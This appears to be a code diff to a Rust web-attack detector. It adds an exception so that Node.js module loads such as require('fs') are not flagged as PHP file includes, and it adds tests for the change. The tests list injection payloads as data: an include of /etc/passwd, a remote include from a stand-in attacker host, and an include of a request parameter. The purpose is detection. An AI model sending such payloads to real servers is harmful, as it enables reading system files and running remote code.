@@ -431,6 +431,21 @@ fn exec_call(s: &[u8]) -> bool {
             return false;
         }
         let rest = s.get(at + f.len()..).unwrap_or(&[]);
+        // `require('fs')`, `require("express")`: Node.js loading a module
+        // by name (code snippets in comments); PHP includes a file, whose
+        // name has a dot, a slash or a scheme.
+        if matches!(f, b"require(" | b"include(") {
+            if let [q @ (b'\'' | b'"' | b'`'), name @ ..] = rest {
+                let module = name.iter().take(64).position(|b| b == q).is_some_and(|e| {
+                    name[..e]
+                        .iter()
+                        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'@'))
+                });
+                if module {
+                    return false;
+                }
+            }
+        }
         matches!(rest.first(), Some(b'\'' | b'"' | b'$' | b'`' | b')'))
             || [
                 b"base64_decode(" as &[u8],
@@ -3152,6 +3167,30 @@ mod tests {
             "see /docs/[id]/edit",
         ] {
             assert!(!rce(p), "{p}");
+        }
+    }
+}
+
+#[cfg(test)]
+mod require_tests {
+    use super::super::normalize::{normalize, Encoding, WINDOW};
+
+    fn rce(raw: &str) -> bool {
+        let mut buf = [0u8; WINDOW];
+        super::detect(&normalize(raw.as_bytes(), Encoding::RAW, &mut buf))
+    }
+
+    #[test]
+    fn a_node_module_by_name_is_no_php_include() {
+        for benign in ["const fs = require('fs');", "x = require(\"express\")"] {
+            assert!(!rce(benign), "{benign}");
+        }
+        for attack in [
+            "';include('/etc/passwd');//",
+            "require(\"http://evil.example/x.txt\")",
+            "include($_GET['f'])",
+        ] {
+            assert!(rce(attack), "{attack}");
         }
     }
 }
